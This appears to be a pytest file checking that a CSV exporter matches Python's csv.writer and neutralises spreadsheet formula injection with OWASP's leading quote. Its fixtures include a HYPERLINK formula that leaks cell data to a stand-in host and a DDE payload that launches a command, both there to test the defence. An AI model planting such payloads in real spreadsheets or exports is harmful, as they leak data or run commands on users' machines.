"""The CSV encoder writes exactly what ``csv.writer`` writes, for every kind of cell value, with
OWASP's quote before text that a spreadsheet would read as a formula (or without, when asked)."""

from __future__ import annotations

import csv
import io
import random
from typing import Any

import pytest

from shotlog.export.columns import BASE, Layout, parse_columns
from shotlog.export.formats import FORMULA_STARTS, INERT_POSITIONS, CsvFormat, cell, neutralise


class _Text(str):
    """A str subclass: csv.writer writes it as the text it is, not through str()."""

    def __str__(self) -> str:
        return "not this"


TRICKY: list[Any] = [
    None,
    "",
    " ",
    "plain",
    "a,b",
    'say "hi"',
    '"',
    '""',
    ",",
    "line\nbreak",
    "carriage\rreturn",
    "\r\n",
    "tab\there",
    " leading and trailing ",
    "Élan Vital, ü",
    "日本語",
    "emoji 🎬",
    "nul\x00byte",
    '{"type":"attribute_change","old_value":"a,b","new_value":null}',
    0,
    -7,
    10**20,
    1.5,
    float("inf"),
    -1.5,
    "=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+33 1 23 45 67 89",
    "-minus",
    "@SUM(A1:A9)",
    "\tcmd",
    "\rcmd",
    "\r\n=cr first",
    "=",
    "'already quoted",
    "a=b",
    "nul\x00=inside",
    "2024-03-01T10:00:00Z",
    True,
    False,
    b"bytes",
    _Text("sub,class"),
    _Text(""),
    _Text("=sub"),
]


def _layout(spec: str) -> Layout:
    return parse_columns(spec, lambda entity_type, field: "text")


def _reference(layout: Layout, rows: list[tuple[Any, ...]], *, safe: bool = True) -> bytes:
    """What csv.writer writes for the cells the layout picks (deep fields through ``cell``), with
    OWASP's rule applied cell by cell to text when ``safe`` (not to ids, ``created_at`` and ``meta``,
    whose sources never give text that starts like a formula)."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    for row in rows:
        cells = []
        for column in layout.columns:
            for pos in column.csv_positions():
                value = cell(row[pos]) if column.kind == "deep" else row[pos]
                guarded = column.kind == "deep" or pos not in INERT_POSITIONS
                if safe and guarded and isinstance(value, str) and value[:1] in FORMULA_STARTS:
                    value = "'" + value
                cells.append(value)
        writer.writerow(cells)
    return buf.getvalue().encode()


@pytest.mark.parametrize(
    "spec",
    [
        "default",
        "all",
        "id",
        "description",
        "meta,description",
        "id,entity.Shot.code,entity.name,user.HumanUser.login",
    ],
)
@pytest.mark.parametrize("safe", [True, False], ids=["neutralised", "raw"])
def test_csv_pages_are_what_csv_writer_writes(spec: str, safe: bool) -> None:
    layout = _layout(spec)
    fmt = CsvFormat(layout, bom=False, neutralise=safe)
    rng = random.Random(spec)
    width = BASE + len(layout.deep)
    for size in (1, 2, 7, 300):
        rows = [tuple(rng.choice(TRICKY) for _ in range(width)) for _ in range(size)]
        assert fmt.page(rows) == _reference(layout, rows, safe=safe)
    # Every value alone in a column, first and last in it, and columns with nothing to change.
    for value in TRICKY:
        for rows in ([(value,) * width, ("plain",) * width], [("plain",) * width, (value,) * width]):
            assert fmt.page(rows) == _reference(layout, rows, safe=safe), value
    assert fmt.page([]) == b""


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("", ""),
        ("a=1", "a=1"),
        ("'=already", "'=already"),
        (" =space first", " =space first"),
    ],
)
def test_neutralise_follows_owasp(text: str, shown: str) -> None:
    assert neutralise(text) == shown


def test_formulas_are_text_and_numbers_stay_numbers() -> None:
    layout = _layout("id,description,entity.Shot.sg_cut_in")
    row = (-3, *([None] * (BASE - 1)), -12)
    description = layout.columns[1].csv_positions()[0]
    rows = [tuple("=1+1" if i == description else v for i, v in enumerate(row))]
    assert CsvFormat(layout, bom=False).page(rows) == b"-3,'=1+1,-12\r\n"
    assert CsvFormat(layout, bom=False, neutralise=False).page(rows) == b"-3,=1+1,-12\r\n"


def test_deep_values_are_cells() -> None:
    layout = _layout("id,entity.Shot.sg_sequence,entity.Shot.tags")
    link = {"type": "Sequence", "id": 4, "name": 'SQ "4", final'}
    nameless = {"type": "Sequence", "id": 5, "name": None}
    row = (7, *([None] * (BASE - 1)), link, [link, nameless, True])
    assert CsvFormat(layout, bom=False).page([row]) == (
        b'7,"SQ ""4"", final","SQ ""4"", final; Sequence 5; true"\r\n'
    )
